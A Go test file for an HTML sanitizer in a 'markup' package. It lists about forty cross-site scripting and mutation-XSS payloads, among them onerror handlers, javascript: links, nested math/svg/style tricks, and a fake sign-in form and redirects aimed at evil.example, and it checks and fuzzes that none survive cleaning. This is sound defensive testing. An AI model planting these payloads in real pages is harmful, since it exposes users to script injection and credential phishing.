package markup

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

var allowed = strings.Fields("html head body p div br b strong i em u ul ol li h3 h4 h5 h6 blockquote pre code table thead tbody tr th td a")

// wrong says what of a text, read as a browser reads it, a post may not hold; empty: nothing.
func wrong(text string) string {
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		return err.Error()
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			return "a comment"
		}
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" || !slices.Contains(allowed, n.Data) {
			return "<" + n.Namespace + " " + n.Data + ">"
		}
		for _, a := range n.Attr {
			switch {
			case n.Data == "a" && a.Key == "href" && strings.HasPrefix(strings.ToLower(a.Val), "https://"):
			case n.Data == "a" && (a.Key == "target" && a.Val == "_blank" || a.Key == "rel"):
			default:
				return n.Data + " " + a.Key + "=" + a.Val
			}
		}
	}
	return ""
}

// attacks are what gets something past a careless reader; the later ones change their meaning when they are read anew.
var attacks = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<img src="https://evil.example/pixel.png">`, `<svg onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" &#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,x">x</a>`, `<a href="//evil.example">x</a>`,
	`<a href="https://aka.ms" onclick="alert(1)" style="position:fixed;inset:0">x</a>`, `<p style="background:url(https://evil.example)">x</p>`,
	`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data=x></object><embed src=x>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=https://evil.example>`, `<style>@import "https://evil.example"</style>`, `<video src=x><audio src=x>`, `<p id=app class=window>x</p>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>`,
	`<table><td><select><option><style></option></select></td></table><img src=x onerror=alert(1)></style>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<title>&lt;img src=x onerror=alert(1)&gt;</title>`, `<textarea></p><img src=x onerror=alert(1)></textarea>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<template><img src=x onerror=alert(1)></template>`,
	"<img/src=`x`onerror=alert(1)>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `<p><b><p><b><i></p></b>&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<a href=https:>x</a>`, `<a href="https:index.html">x</a>`, `<a href="https:///x">x</a>`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<a href="https://a.example/&quot;><img src=x onerror=alert(1)>">x</a>`,
}

func TestNoAttackSurvives(t *testing.T) {
	for _, attack := range attacks {
		clean := Clean(attack)
		if found := wrong(clean); found != "" {
			t.Errorf("%q became %q, which holds %s", attack, clean, found)
		}
		if again := Clean(clean); again != clean {
			t.Errorf("%q became %q, and that %q", attack, clean, again)
		}
	}
}

func TestWhatAPostIsMadeOfStays(t *testing.T) {
	const post = `<p>Title: <b>Mail</b> is late<br/><a href="https://aka.ms/x" rel="noreferrer noopener" target="_blank">more</a></p><table><tr><td>a</td></tr></table>`
	if got := Clean(post); got != post {
		t.Error(got)
	}
}

func FuzzNothingForeignSurvives(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, text string) {
		clean := Clean(text)
		if found := wrong(clean); found != "" {
			t.Fatalf("%q became %q, which holds %s", text, clean, found)
		}
		if again := policy.Sanitize(clean); wrong(again) != "" {
			t.Fatalf("%q became %q, and that %q", text, clean, again)
		}
	})
}
